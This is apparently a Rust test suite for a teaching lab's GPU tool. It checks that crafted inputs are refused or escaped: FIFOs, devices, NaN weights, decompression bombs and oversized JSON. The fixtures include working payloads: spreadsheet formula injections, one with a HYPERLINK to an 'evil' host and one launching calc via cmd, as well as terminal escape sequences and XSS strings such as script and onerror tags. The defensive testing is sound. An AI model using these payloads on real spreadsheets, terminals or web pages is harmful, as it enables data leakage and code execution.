//! Files an attacker or a careless classmate could hand the lab: a FIFO, a device or a link
//! where a file belongs, NaN weights, a crafted report.json, a student's strings with terminal
//! escapes or spreadsheet formulas. Each is refused by name or made harmless, and nothing
//! blocks: every read that could wait runs under a deadline here, so a regression fails the
//! test instead of hanging the suite.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use gpulab::checkpoint::{CheckpointError, format, store};
use gpulab::exercises;
use gpulab::nn::{MlpConfig, OptimizerKind};
use gpulab::report::{self, Cell, Chart, Column, Figure, Provenance, Report, Series, Table};

/// Runs `f` on its own thread; panics (naming `what`) if it has not returned in 60 s.
fn within<T: Send + 'static>(what: &str, f: impl FnOnce() -> T + Send + 'static) -> T {
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let _ = tx.send(f());
    });
    rx.recv_timeout(Duration::from_secs(60)).unwrap_or_else(|_| panic!("{what} blocked (a FIFO read waits for a writer for ever)"))
}

fn mkfifo(path: &Path) -> PathBuf {
    let ok = Command::new("mkfifo").arg(path).status().expect("mkfifo runs").success();
    assert!(ok, "mkfifo {}", path.display());
    path.to_path_buf()
}

#[test]
fn a_fifo_among_the_checkpoints_is_skipped_by_name_and_the_resume_uses_the_newest_file() {
    let dir = tempfile::tempdir().unwrap();
    crate::checkpoint::train(&crate::checkpoint::small_spec(dir.path(), OptimizerKind::Sgd, 10));
    let newest_file = store::list(dir.path()).unwrap()[0].clone();
    let fifo = mkfifo(&dir.path().join(store::file_name(9_999_999)));
    let arch = MlpConfig { input: 64, hidden: vec![24, 16], classes: 10, conv: None };
    let d = dir.path().to_path_buf();
    let (found, skipped) = within("resuming past a FIFO", move || store::newest_valid(&d, &arch, OptimizerKind::Sgd).unwrap());
    assert_eq!(found.map(|f| f.0), Some(newest_file));
    assert_eq!(skipped.len(), 1, "{skipped:?}");
    assert!(skipped[0].path == fifo && skipped[0].reason.contains("FIFO"), "{skipped:?}");
}

#[test]
fn devices_are_refused_as_checkpoints_int8_models_and_reports() {
    let zero = Path::new("/dev/zero");
    let e = within("a checkpoint from /dev/zero", || store::read(zero).map(drop).unwrap_err().to_string());
    assert!(e.contains("/dev/zero") && e.contains("character device"), "{e}");
    let e = within("an int8 model from /dev/zero", || gpulab::quant::load(zero).map(drop).unwrap_err().to_string());
    assert!(e.contains("/dev/zero") && e.contains("character device"), "{e}");
    let e = within("a report from /dev/zero", || report::read_json(zero).map(drop).unwrap_err().to_string());
    assert!(e.contains("/dev/zero") && e.contains("character device"), "{e}");
}

#[test]
fn a_fifo_or_a_device_as_exercise_10s_scenario_or_traffic_csv_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = mkfifo(&dir.path().join("scenario.json"));
    let ex = exercises::find("platform").unwrap();
    for (key, path) in [("scenario_file", fifo.clone()), ("traffic_csv", fifo), ("scenario_file", "/dev/zero".into())] {
        let mut s = ex.settings();
        s.apply(&[format!("{key}={}", path.display())]).unwrap();
        let e = within("reading exercise 10's input", move || exercises::find("platform").unwrap().validate(&s).unwrap_err().to_string());
        assert!(e.contains(key) && e.contains("not a regular file"), "{e}");
    }
}

/// A small report with one of everything a crafted file could abuse.
fn report_with(figure: f64, cell: f64, point: f64, decimals: usize) -> Report {
    let prov = Provenance::Measured;
    Report {
        exercise: "cpu-vs-gpu".into(),
        title: "t".into(),
        figures: vec![Figure { label: "f".into(), value: figure, unit: "x".into(), provenance: prov.clone() }],
        tables: vec![Table {
            title: "tab".into(),
            columns: vec![Column::num("n", "", decimals, prov.clone()), Column::text("text")],
            rows: vec![vec![Cell::Num(cell), "inf".into()], vec![Cell::Num(1.5), Cell::Empty]],
        }],
        charts: vec![Chart {
            markers: vec![(point, "m".into())],
            ..Chart::line("c", "c", "x", "y").with_series(vec![Series {
                name: "s".into(),
                points: vec![[0.0, point], [1.0, 2.0]],
                provenance: prov,
            }])
        }],
        ..Default::default()
    }
}

/// A gzip IDX file within the 1032:1 ratio deflate allows, whose header claims more than the
/// 1 GiB gpulab reads: refused from the header, before anything is allocated or decompressed.
#[test]
fn a_gzip_idx_claiming_more_than_the_limit_is_refused_before_decompressing() {
    use rand::{RngCore, SeedableRng};
    use std::io::Write;
    let mut header = vec![0, 0, 8, 3];
    for d in [1u32, 32_769, 32_768] {
        header.extend(d.to_be_bytes());
    }
    let mut noise = vec![0u8; 1_100_000];
    rand_chacha::ChaCha8Rng::seed_from_u64(3).fill_bytes(&mut noise);
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(&header).unwrap();
    gz.write_all(&noise).unwrap();
    let file = gz.finish().unwrap();
    assert!(1_073_774_592 < file.len() as u64 * 1032, "the claim is within deflate's ratio");
    let e = gpulab::data::idx::parse(&file, true, 0x803).unwrap_err();
    assert!(e.contains("1073774592") && e.contains("1024 MiB"), "{e}");
    // The same bytes as a file of a data set: named, and the same reason.
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("train-images-idx3-ubyte.gz"), &file).unwrap();
    std::fs::write(dir.path().join("train-labels-idx1-ubyte"), b"read after the images").unwrap();
    let e = gpulab::data::load(&gpulab::data::DatasetSpec::Idx(dir.path().to_path_buf()), 0).unwrap_err().to_string();
    assert!(e.contains("train-images-idx3-ubyte.gz") && e.contains("1024 MiB"), "{e}");
}

/// Millions of empty table rows (`[],[],…`, 3 bytes each, 24 bytes each once parsed) are
/// refused before parsing, so a report of a few megabytes cannot take gigabytes to open.
#[test]
fn a_report_of_millions_of_tiny_values_is_refused_before_parsing() {
    let json = serde_json::to_string(&report_with(1.0, 1.0, 1.0, 2)).unwrap();
    let json = json.replacen("\"rows\":[", &format!("\"rows\":[{}", "[],".repeat(3_000_000)), 1);
    assert!(json.len() < report::MAX_JSON_BYTES as usize);
    let e = report::parse_json(json.as_bytes()).unwrap_err().to_string();
    assert!(e.contains("JSON values") && e.contains(&report::MAX_JSON_VALUES.to_string()), "{e}");
    // A real report's strings may hold commas and brackets: they are not counted.
    let mut r = report_with(1.0, 1.0, 1.0, 2);
    r.notes.push("[,{".repeat(2_000_000));
    assert!(report::parse_json(serde_json::to_string(&r).unwrap().as_bytes()).is_ok());
}

#[test]
fn a_checkpoint_with_nan_weights_is_refused_naming_the_tensor() {
    let dir = tempfile::tempdir().unwrap();
    crate::checkpoint::train(&crate::checkpoint::small_spec(dir.path(), OptimizerKind::Sgd, 0));
    let path = store::list(dir.path()).unwrap()[0].clone();
    let ck = store::read(&path).unwrap();
    for bad in [f32::NAN, f32::INFINITY] {
        let mut tensors = ck.tensors.clone();
        tensors.get_mut("layers.1.weight").unwrap().data[5] = bad;
        std::fs::write(&path, format::encode(&ck.meta, &tensors).unwrap()).unwrap();
        match store::read(&path) {
            Err(e @ CheckpointError::NonFinite { .. }) => {
                let text = e.to_string();
                assert!(text.contains("layers.1.weight") && text.contains("index 5") && text.contains("diverged"), "{text}");
            }
            other => panic!("{bad}: expected NonFinite, got {other:?}"),
        }
    }
}

#[test]
fn an_int8_model_with_a_nan_bias_is_refused() {
    use gpulab::quant::{ActScales, QuantizedLayer, QuantizedModel, export};
    use gpulab::tensor::QuantGranularity;
    let layer =
        QuantizedLayer { weight: vec![1; 6], shape: [3, 2], weight_scales: vec![0.1, 0.1], input_scale: None, bias: vec![0.0, f32::NAN] };
    let m = QuantizedModel { layers: vec![layer], weights: QuantGranularity::PerChannel, activations: ActScales::Dynamic };
    let e = export::from_bytes(&export::to_bytes(&m, &[]).unwrap(), "m.safetensors".as_ref()).unwrap_err().to_string();
    assert!(e.contains("layers.0.bias") && e.contains("NaN"), "{e}");
}

#[test]
fn non_finite_figures_are_written_so_that_they_read_back() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("report.json");
    for v in [f64::NAN, f64::INFINITY, f64::NEG_INFINITY] {
        report::write_json(&report_with(v, v, v, 2), &path).unwrap();
        let back = report::read_json(&path).unwrap_or_else(|e| panic!("{v}: {e}"));
        let bits = |x: f64| if x.is_nan() { u64::MAX } else { x.to_bits() };
        assert_eq!(bits(back.figures[0].value), bits(v));
        assert!(matches!(back.tables[0].rows[0][0], Cell::Num(x) if bits(x) == bits(v)), "{:?}", back.tables[0].rows[0]);
        assert_eq!(bits(back.charts[0].series[0].points[0][1]), bits(v));
        assert_eq!(bits(back.charts[0].markers[0].0), bits(v));
        // Finite numbers, text and empty cells are untouched (a text cell "inf" shows the same).
        assert_eq!(back.tables[0].rows[1], vec![Cell::Num(1.5), Cell::Empty]);
        assert_eq!(back.tables[0].rows[0][1].format(&back.tables[0].columns[1]), "inf");
    }
    // A report from before this format, NaN written as null, still opens.
    let old = serde_json::to_string(&report_with(1.0, f64::NAN, 2.0, 2)).unwrap().replace("\"NaN\"", "null");
    assert!(report::parse_json(old.as_bytes()).is_ok());
}

#[test]
fn a_crafted_report_with_huge_decimals_opens_and_formats_without_a_panic() {
    let json = serde_json::to_string(&report_with(1.0, 2.5, 3.0, 2)).unwrap().replace("\"decimals\":2", "\"decimals\":70000");
    assert!(json.contains("70000"));
    let r = report::parse_json(json.as_bytes()).unwrap();
    let (t, col) = (&r.tables[0], &r.tables[0].columns[0]);
    assert_eq!(col.decimals, report::MAX_DECIMALS);
    assert_eq!(t.rows[0][0].format(col), format!("{:.*}", report::MAX_DECIMALS, 2.5));
    // A column built in code with too many decimals is held to the cap when formatted.
    let wide = Column::num("n", "", 1 << 20, Provenance::Measured);
    assert_eq!(Cell::Num(2.5).format(&wide).len(), 2 + report::MAX_DECIMALS);
    let html = report::html::to_html(&r);
    assert!(html.contains("2.5000"));
}

#[test]
fn report_csv_neutralises_formula_cells() {
    let mut r = report_with(1.0, 1.0, 1.0, 2);
    r.charts[0].title = "=HYPERLINK(\"http://evil\",\"x\")".into();
    r.charts[0].series[0].name = "@SUM(A1)".into();
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("report.csv");
    report::write_csv(&r, &path).unwrap();
    let text = std::fs::read_to_string(&path).unwrap();
    let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(text.as_bytes()).records().map(|r| r.unwrap()).collect();
    for row in &rows {
        assert!(row[0].starts_with("'=") && row[3].starts_with("'@"), "{row:?}");
        assert!(row.iter().all(|c| !c.starts_with(['=', '+', '@'])), "{row:?}");
    }
}

/// A student's report whose strings carry terminal escapes and spreadsheet formulas, in a
/// file whose name carries an escape too.
fn hostile_class() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let mut r = report_with(1.0, 1.0, 1.0, 2);
    r.metadata.host = "=HYPERLINK(\"http://evil/?\"&A1,\"click\")\x1b]0;owned\x07".into();
    r.metadata.started_at = "+1+1".into();
    r.figures[0].unit = "@SUM(A1)".into();
    r.figures[0].label = "-2+3\x1b[2J".into();
    report::write_json(&r, &dir.path().join("ev\x1b[31mil-report.json")).unwrap();
    dir
}

#[test]
fn class_csv_neutralises_formulas_from_students_files() {
    let dir = hostile_class();
    let class = gpulab::class::read(dir.path()).unwrap();
    assert_eq!(class.report_count(), 1, "{:?}", class.skipped);
    let text = gpulab::class::csv_text(&class).unwrap();
    let mut rd = csv::Reader::from_reader(text.as_bytes());
    let head = rd.headers().unwrap().clone();
    let row = rd.records().next().unwrap().unwrap();
    let col = |name: &str| &row[head.iter().position(|h| h == name).unwrap()];
    assert!(col("host").starts_with("'="), "{row:?}");
    assert!(col("started_at").starts_with("'+"), "{row:?}");
    assert!(col("unit").starts_with("'@"), "{row:?}");
    assert!(col("key_figure").starts_with("'-"), "{row:?}");
    assert_eq!(col("value"), "1", "numbers stay numbers");
}

#[test]
fn gpulab_class_prints_students_strings_with_their_escapes_escaped() {
    let dir = hostile_class();
    std::fs::write(dir.path().join("bad\x1b[2J-report.json"), "not json").unwrap();
    let o = Command::new(env!("CARGO_BIN_EXE_gpulab")).arg("class").arg(dir.path()).output().unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(!out.contains('\x1b') && !out.contains('\x07'), "a raw escape reached the terminal: {out:?}");
    assert!(out.contains("\\u{1b}"), "the escapes are shown, escaped: {out}");
}

/// Strings a crafted report or scenario carries into report.md: HTML that a Markdown viewer would
/// run or load, terminal escapes, and Markdown that would break the page's structure. The
/// Markdown writer shows them as text (issue 42, item 3).
#[test]
fn report_md_shows_strings_from_files_as_text() {
    let mut r = report_with(1.0, 1.0, 1.0, 2);
    r.title = "<script>alert(1)</script>\x1b]0;pwned\x07".into();
    r.figures[0].label = "<img src=x onerror=alert(1)>".into();
    r.tables[0].rows[0][1] = "<iframe src=javascript:alert(1)>\n# heading".into();
    r.charts[0].series[0].name = "s\x1b[2J".into();
    r.metadata.dataset = "checkpoint on <svg onload=alert(1)>\x1b[31m".into();
    r.config.insert("scenario".into(), "`x` <b>bold</b>".into());
    let md = report::markdown(&r);
    // Every `<` is escaped (`\<`, CommonMark's literal), so no tag opens: <script>, <img>,
    // <iframe>, <svg>, <b>.
    assert!(!md.replace("\\<", "").contains('<'), "report.md holds an unescaped '<':\n{md}");
    for raw in ["\x1b", "\x07", "\n# heading"] {
        assert!(!md.contains(raw), "report.md holds {raw:?} raw:\n{md}");
    }
    assert!(md.contains("\\<script\\>") && md.contains("\\u{1b}"), "shown escaped:\n{md}");
}

/// The formula guard: a cell that starts with whitespace or a line break before `=`, `+`, `-`, `@`
/// is a formula to a spreadsheet too, and a joined list guards each item.
#[test]
fn csv_formula_guard_covers_leading_space_and_joined_lists() {
    use gpulab::text::{csv_text_cell, csv_text_list};
    for bad in [" =1+1", "\n=HYPERLINK(\"x\")", " \t@SUM(A1)", "\r\n+cmd", "  -2+3"] {
        assert!(csv_text_cell(bad).starts_with('\''), "{bad:?} -> {:?}", csv_text_cell(bad));
    }
    assert_eq!(csv_text_cell(" plain"), " plain");
    let items = ["RTX 4090".to_string(), "=cmd|' /C calc'!A0".to_string(), " @x".to_string()];
    assert_eq!(csv_text_list(&items, "; "), "RTX 4090; '=cmd|' /C calc'!A0; ' @x");
    assert_eq!(csv_text_list(&items[1..2], "; "), "'=cmd|' /C calc'!A0");
}

/// class.csv keeps no control characters from a student's file (the escape in the host and
/// the file name), and a formula inside a joined list of adapters is guarded.
#[test]
fn class_csv_drops_control_characters_and_guards_joined_lists() {
    let dir = hostile_class();
    let class = gpulab::class::read(dir.path()).unwrap();
    assert_eq!(class.report_count(), 1, "{:?}", class.skipped);
    let text = gpulab::class::csv_text(&class).unwrap();
    let mut rd = csv::Reader::from_reader(text.as_bytes());
    let head = rd.headers().unwrap().clone();
    let row = rd.records().next().unwrap().unwrap();
    for (h, cell) in head.iter().zip(row.iter()) {
        assert!(!cell.chars().any(char::is_control), "{h} keeps a control character: {cell:?}");
    }
    let col = |name: &str| row[head.iter().position(|h| h == name).unwrap()].to_string();
    assert!(col("host").starts_with("'=") && col("host").contains("owned"), "{row:?}");
    assert!(col("file").contains("ev[31mil-report.json"), "{row:?}");
}
